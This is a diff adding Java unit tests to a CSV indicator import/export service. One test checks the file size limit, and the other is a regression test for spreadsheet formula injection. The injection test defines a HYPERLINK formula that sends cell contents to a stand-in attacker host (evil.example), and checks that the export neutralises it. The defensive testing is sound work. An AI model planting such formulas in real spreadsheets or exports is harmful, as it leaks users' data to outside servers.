@@ -145,4 +145,28 @@ class IndicatorCsvServiceTest {
                             ImportPreview.Outcome.UNCHANGED);
         }
     }
+
+    @Test
+    void aFileOverTheLimitIsRefusedWithoutBeingRead() {
+        ImportPreview p = csv.preview(c.w().conventionId(), new byte[IndicatorCsv.MAX_BYTES + 1]);
+        assertThat(p.fileErrorKey()).isEqualTo("indicator.csv.tooLarge");
+        assertThat(p.fileErrorArguments()).containsExactly(20);
+    }
+
+    static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1;\"clic\")";
+
+    /** Hole 2 of the security review: a comment typed as a formula ran in the spreadsheet that opened the export. */
+    @Test
+    void csvFormulaInjectionIsNeutralisedInTheExportAndStrippedBackOnImport() {
+        put(c.places(), "2022", "48", FORMULA);
+        put(c.places(), "2023", "50.5", "@SUM(1+1)");
+        String exported = new String(csv.export(c.w().conventionId(), null, null, null, ';'), StandardCharsets.UTF_8);
+        assertThat(exported).contains(";\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"clic\"\")\";", ";'@SUM(1+1);")
+                .as("a number stays a number").contains(";50,5;")
+                .doesNotContain(";\"=HYPERLINK", ";@SUM");
+        List<Csv.Record> back = Csv.parse(Csv.stripBom(exported), ';');
+        assertThat(back).extracting(r -> r.fields().get(8)).contains(FORMULA, "@SUM(1+1)");
+        ImportPreview p = csv.preview(c.w().conventionId(), exported.getBytes(StandardCharsets.UTF_8));
+        assertThat(p.rows()).extracting(ImportPreview.Row::outcome).containsOnly(ImportPreview.Outcome.UNCHANGED);
+    }
 }
